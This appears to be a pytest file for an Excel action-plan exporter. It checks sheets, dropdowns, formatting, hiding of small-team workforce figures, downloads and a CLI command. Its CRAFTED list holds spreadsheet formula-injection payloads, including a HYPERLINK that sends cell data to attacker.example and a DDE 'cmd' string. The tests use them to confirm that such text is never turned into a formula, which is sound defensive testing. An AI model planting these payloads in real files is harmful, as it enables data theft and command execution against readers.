"""The action-plan workbook: its sheets, table, dropdowns, formats, and text that can never run."""

import datetime
import io

import openpyxl
import pytest
from results_seed import released

from healthcheck import cycles, workforce
from healthcheck.actions import plan as actions
from healthcheck.workbook.build import build_workbook, workbook_bytes
from healthcheck.workbook.cells import clean_text, write_text

TODAY = datetime.date.today()
DAY = datetime.timedelta(days=1)
CRAFTED = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "-2+3",
    "\r=1",
    "\n=1",
    "=1+1",
    "#N/A",
]


def add(db, cycle, **changes):
    row = {
        "standard": 5,
        "step": 8,
        "finding": "Supervision frequency scores 38 (Low)",
        "action": "Book monthly supervision",
        "owner": "Head of Service",
        "lead": "Team managers",
        "target_date": TODAY + 30 * DAY,
        "status": "In progress",
        "progress": "On track",
    }
    row.update(changes)
    return actions.create_action(db, cycle, row, "psw@council.example")


def export(db, cycle, by="psw@council.example"):
    return openpyxl.load_workbook(io.BytesIO(workbook_bytes(build_workbook(db, cycle, by))))


def formula_cells(book):
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.mark.parametrize("text", CRAFTED)
def test_text_that_looks_like_a_formula_is_kept_as_written_and_marked_as_text(text):
    sheet = openpyxl.Workbook().active
    write_text(sheet["A1"], text)
    assert sheet["A1"].value == text and sheet["A1"].data_type == "s"
    assert bool(sheet["A1"].quotePrefix) == text.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def test_clean_text_strips_characters_xml_cannot_hold():
    assert clean_text("Team\x00 A\x07\x1b review") == "Team A review"
    assert clean_text("line one\nline two\ttabbed") == "line one\nline two\ttabbed"
    assert clean_text(None) == "" and clean_text(12) == "12"
    assert len(clean_text("x" * 40000)) == 32767


def test_a_cell_rewritten_with_plain_text_loses_the_text_mark():
    sheet = openpyxl.Workbook().active
    write_text(sheet["A1"], "=SUM(1)")
    write_text(sheet["A1"], "SUM")
    assert not sheet["A1"].quotePrefix


def test_workbook_has_the_sheets_in_order(db, make_cycle):
    cycle = released(db, make_cycle(status="closed"))
    book = export(db, cycle)
    assert book.sheetnames == ["Summary", "Standards", "Teams", "Workforce", "Action plan", "Comments", "About"]
    assert book.active.title == "Action plan"


def test_before_release_the_workbook_has_no_results_sheets(db, make_cycle):
    book = export(db, make_cycle(status="open"))
    assert book.sheetnames == ["Summary", "Workforce", "Action plan", "About"]
    text = " ".join(str(cell.value) for row in book["Summary"].iter_rows() for cell in row if cell.value)
    assert "Results appear after release" in text and "Fewer than" not in text
    assert book.active.title == "Action plan"


def test_action_plan_sheet_is_a_filterable_table_with_dropdowns(db, make_cycle):
    cycle = make_cycle(status="open")
    add(db, cycle)
    late = add(db, cycle, standard=3, step=None, target_date=TODAY - 5 * DAY, progress="Off track")
    actions.add_note(db, late, "Waiting for the caseload tool", "psw@council.example")
    sheet = export(db, cycle)["Action plan"]

    headers = [cell.value for cell in sheet[1]]
    assert headers == [
        "Action id",
        "Standard",
        "Step",
        "Finding",
        "Action",
        "Owner",
        "Lead",
        "Target date",
        "Status",
        "Progress",
        "Latest note",
        "For",
    ]
    assert [cell.value for cell in sheet[3]] == [
        "A-002",
        "3 Safe workloads and case allocation",
        None,
        "Supervision frequency scores 38 (Low)",
        "Book monthly supervision",
        "Head of Service",
        "Team managers",
        datetime.datetime.combine(TODAY - 5 * DAY, datetime.time()),
        "In progress",
        "Off track",
        "Waiting for the caseload tool",
        "Whole organisation",
    ]
    assert sheet["H2"].is_date and sheet["H2"].number_format == "d mmm yyyy"
    table = sheet.tables["ActionPlan"]
    assert table.ref == "A1:L3"
    assert table.autoFilter is not None
    assert sheet.freeze_panes == "B2"

    validations = {str(v.sqref): v for v in sheet.data_validations.dataValidation}
    status = next(v for v in validations.values() if str(v.sqref).startswith("I2"))
    assert status.type == "list" and status.formula1 == '"Not started,In progress,Complete,Cancelled"'
    progress = next(v for v in validations.values() if str(v.sqref).startswith("J2"))
    assert progress.type == "list" and progress.formula1 == '"On track,At risk,Off track"'
    target = next(v for v in validations.values() if str(v.sqref).startswith("H2"))
    assert target.type == "date" and target.showErrorMessage
    standard = next(v for v in validations.values() if str(v.sqref).startswith("B2"))
    assert standard.formula1 == "StandardList"
    book = sheet.parent
    listed = book.defined_names["StandardList"].attr_text
    about = book["About"]
    cells = [row[0].value for row in about[listed.split("!")[1].replace("$", "")]]
    assert cells[0] == "1 Clear social work accountability framework" and len(cells) == 8
    # the dropdowns reach rows added below the table in Excel
    assert str(status.sqref).endswith(str(3 + 200))


def test_action_plan_conditional_formats_overdue_and_progress(db, make_cycle):
    cycle = make_cycle(status="open")
    add(db, cycle)
    sheet = export(db, cycle)["Action plan"]
    rules = {str(ranges.sqref): [rule for rule in ranges.rules] for ranges in sheet.conditional_formatting}
    overdue = rules["H2:H202"]
    assert overdue[0].type == "expression"
    assert overdue[0].formula == ['AND($H2<>"",$H2<TODAY(),$I2<>"Complete",$I2<>"Cancelled")']
    progress = rules["J2:J202"]
    assert sorted(rule.formula[0] for rule in progress) == ['"At risk"', '"Off track"', '"On track"']
    assert all(rule.operator == "equal" and rule.dxf.fill is not None for rule in progress)


def test_action_plan_prints_landscape_fitted_to_width(db, make_cycle):
    cycle = make_cycle(status="open")
    add(db, cycle, finding="A long finding " * 20)
    sheet = export(db, cycle)["Action plan"]
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.print_title_rows == "$1:$1"
    assert sheet["D2"].alignment.wrap_text and sheet["E2"].alignment.wrap_text
    assert sheet.column_dimensions["E"].width > sheet.column_dimensions["C"].width
    assert sheet.row_dimensions[2].height > 15  # room for the wrapped finding


def test_empty_plan_still_has_a_table(db, make_cycle):
    cycle = make_cycle(status="draft")
    sheet = export(db, cycle)["Action plan"]
    assert sheet.tables["ActionPlan"].ref == "A1:L2"
    assert sheet["A2"].value is None


def test_about_sheet_says_what_when_and_by_whom(db, make_cycle):
    cycles.set_organisation_name(db, "Northfield Borough Council")
    cycle = make_cycle(status="open", threshold=6)
    about = export(db, cycle, by="steering@council.example")["About"]
    facts = {row[0].value: row[1].value for row in about.iter_rows(min_row=3, max_row=10)}
    assert facts["Organisation"] == "Northfield Borough Council"
    assert facts["Reporting threshold"].startswith("6: no figure or comment is shown for a group of fewer than 6")
    assert facts["Question bank version"] == cycle["bank_version"] == "2026.1"
    assert facts["Generated by"] == "steering@council.example"
    assert facts["Generated on"].startswith(f"{TODAY.day} {TODAY:%B %Y} at ")
    text = " ".join(str(cell.value) for row in about.iter_rows() for cell in row if cell.value)
    assert "Low 0 to 50, Moderate 51 to 74, High 75 to 100" in text
    assert "Strongly disagree 0" in text and "Don't know / not applicable" in text


def test_crafted_formulas_never_become_formula_cells(db, make_cycle):
    cycles.set_organisation_name(db, "=cmd|' /C calc'!A0")
    cycle = make_cycle(status="open", name="@SUM(1)", teams=[('=HYPERLINK("x")', "Adults", 12)])
    for text in CRAFTED:
        action = add(db, cycle, finding="x", action="y", owner="z")
        # write the text straight into the database: the workbook must be safe whatever is stored
        db["actions"].update(action["id"], {"finding": text, "action": text, "owner": text, "lead": text})
        db["action_notes"].insert(
            {"action_id": action["id"], "noted_on": TODAY.isoformat(), "text": text, "author": text}
        )
    team = cycles.teams_for(db, cycle["id"])[0]
    db["workforce_figures"].insert({"cycle_id": cycle["id"], "team_id": team["id"], "field": "inpost_fte", "value": 10})
    book = export(db, cycle, by="+evil")
    assert formula_cells(book) == []
    sheet = book["Action plan"]
    findings = [sheet.cell(row=row, column=4).value for row in range(2, 2 + len(CRAFTED))]
    assert findings[:3] == CRAFTED[:3]
    assert all(sheet.cell(row=row, column=4).quotePrefix for row in range(2, 5))
    assert all(
        sheet.cell(row=row, column=col).data_type == "s"
        for row in range(2, 2 + len(CRAFTED))
        for col in (4, 5, 6, 7, 11)
    )
    assert '=HYPERLINK("x")' in [row[0] for row in book["Workforce"].iter_rows(values_only=True)]


# --- Workforce ------------------------------------------------------------------


def table(sheet, first_header, name_column=1):
    """{first cell: [row values]} for the table whose header row starts with first_header, up to a blank row."""
    header = next(row[0].row for row in sheet.iter_rows() if row[0].value == first_header)
    rows = {}
    for row in sheet.iter_rows(min_row=header + 1, values_only=True):
        if row[0] in (None, ""):
            break
        rows[row[name_column - 1]] = list(row)
    return [cell.value for cell in sheet[header]], rows


def test_workforce_sheet_shows_indicators_and_hides_small_team_sickness(db, make_cycle):
    cycle = make_cycle(status="open", teams=[("Big", "Adults", 20), ("Tiny", "Adults", 3), ("Middle", "Adults", 9)])
    for team in cycles.teams_for(db, cycle["id"]):
        for field, value in {"inpost_fte": 10, "vacancy_fte": 2.5, "working_days_lost": 25.3}.items():
            db["workforce_figures"].insert(
                {"cycle_id": cycle["id"], "team_id": team["id"], "field": field, "value": value}
            )
    sheet = export(db, cycle)["Workforce"]
    header, rows = table(sheet, "Team")
    vacancy, absence = header.index("Vacancy rate (%)"), header.index("Sickness absence rate (%)")
    assert rows["Tiny"][vacancy] == pytest.approx(2.5 / 12.5 * 100)
    # Tiny is under the threshold; Middle is hidden with it so the whole organisation's rate cannot give Tiny away
    assert rows["Tiny"][absence] == "Hidden: fewer than 5 staff"
    # Middle is not small: it is hidden to protect Tiny, and says so
    assert rows["Middle"][absence] == "Hidden so that a smaller team's figures cannot be worked out from the total"
    assert rows["Big"][absence] == pytest.approx(1.0)
    assert rows["Whole organisation"][absence] == pytest.approx(1.0)
    assert rows["Teams counted in the whole organisation"][absence] == 3
    text = [cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert "Vacancies ÷ (Vacancies + In post) × 100" in text
    assert "Working days lost to sickness in the last 12 months ÷ In post × 253 × 100" in text
    # the raw sickness figures are hidden the same way
    supplied = next(row for row in sheet.iter_rows() if row[0].value == "Figures supplied")[0].row
    fields = [cell.value for cell in sheet[supplied + 1]]
    days = fields.index("Working days lost to sickness in the last 12 months (days)")
    tiny = next(row for row in sheet.iter_rows(min_row=supplied) if row[0].value == "Tiny")
    assert tiny[days].value == "Hidden: fewer than 5 staff" and tiny[fields.index("In post (FTE)")].value == 10


def test_workforce_sheet_matches_the_workforce_report(db, make_cycle):
    """One implementation: every figure on the sheet is the workforce package's, hidden where it hides."""
    from results_seed import seed_results

    cycle = seed_results(db, make_cycle)
    report = workforce.workforce_report(db, cycle)
    header, rows = table(export(db, cycle)["Workforce"], "Team")
    for team in report.teams:
        for item in team.indicators:
            cell = rows[team.team["name"]][header.index(f"{item.indicator.name} ({item.indicator.unit})")]
            if item.hidden:
                assert cell == team.hidden_reason  # its own true reason
            elif item.value is None:
                assert cell == "No data"
            else:
                assert cell == pytest.approx(item.value)
    assert any(item.hidden for team in report.teams for item in team.indicators)
    for item in report.organisation:
        cell = rows["Whole organisation"][header.index(f"{item.indicator.name} ({item.indicator.unit})")]
        assert cell == (
            report.hidden_message if item.hidden else "No data" if item.value is None else pytest.approx(item.value)
        )


def test_workforce_sheet_gives_the_organisations_definitions(db, make_cycle):
    cycle = make_cycle(status="open")
    cycle = workforce.save_definitions(
        db,
        cycle,
        {
            "case_definition": "=A child or family open to the team, counted once",
            "long_term_absence_definition": "Absent for 28 calendar days or more",
        },
    )
    sheet = export(db, cycle)["Workforce"]
    definitions = {row[0]: row[1] for row in sheet.iter_rows(min_row=5, max_row=6, values_only=True)}
    assert sheet["A4"].value == "The organisation's definitions"
    assert definitions == {
        "What counts as one case": "=A child or family open to the team, counted once",
        "What counts as long-term absence": "Absent for 28 calendar days or more",
    }
    assert sheet["B5"].data_type == "s" and sheet["B5"].quotePrefix


def test_workforce_sheet_without_figures_says_so(db, make_cycle):
    cycle = make_cycle(status="open")
    sheet = export(db, cycle)["Workforce"]
    assert sheet["B5"].value == sheet["B6"].value == "Not recorded"
    assert sheet["A8"].value == "No workforce figures have been entered for this cycle yet."


# --- Download and command -------------------------------------------------------------


@pytest.mark.parametrize("role", ["psw", "admin", "viewer"])
def test_staff_download_the_workbook(sign_in, make_cycle, db, role):
    cycle = make_cycle(status="open")
    add(db, cycle)
    response = sign_in(role).get("/admin/cycles/health-check-2026/action-plan.xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'filename="health-check-2026-action-plan.xlsx"' in response.headers["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    assert book["Action plan"]["A2"].value == "A-001"
    about = {row[0].value: row[1].value for row in book["About"].iter_rows(min_row=3, max_row=10)}
    assert about["Generated by"] == f"{role}@council.example"


def test_download_needs_sign_in(client, make_cycle):
    make_cycle(status="open")
    assert client.get("/admin/cycles/health-check-2026/action-plan.xlsx").status_code == 302


def test_export_command_writes_the_workbook(runner, make_cycle, db, tmp_path):
    cycle = make_cycle(status="open")
    add(db, cycle)
    output = tmp_path / "plan.xlsx"
    result = runner.invoke(args=["export-action-plan", "--cycle", "health-check-2026", "-o", str(output)])
    assert result.exit_code == 0, result.output
    assert "Wrote the action plan for Health check 2026" in result.output
    assert openpyxl.load_workbook(output)["Action plan"]["A2"].value == "A-001"


@pytest.mark.parametrize(
    "args, message",
    [
        (["--cycle", "nope", "-o", "plan.xlsx"], "--cycle: there is no cycle called 'nope'"),
        (["--cycle", "health-check-2026", "-o", "plan.csv"], "-o: the file name must end in .xlsx"),
        (
            ["--cycle", "health-check-2026", "-o", "missing-folder/plan.xlsx"],
            "-o: the folder missing-folder does not exist",
        ),
    ],
)
def test_export_command_explains_bad_arguments(runner, make_cycle, tmp_path, monkeypatch, args, message):
    make_cycle(status="open")
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(args=["export-action-plan", *args])
    assert result.exit_code == 1
    assert message in result.output
    assert list(tmp_path.glob("**/*.xlsx")) == [] and list(tmp_path.glob("*.csv")) == []
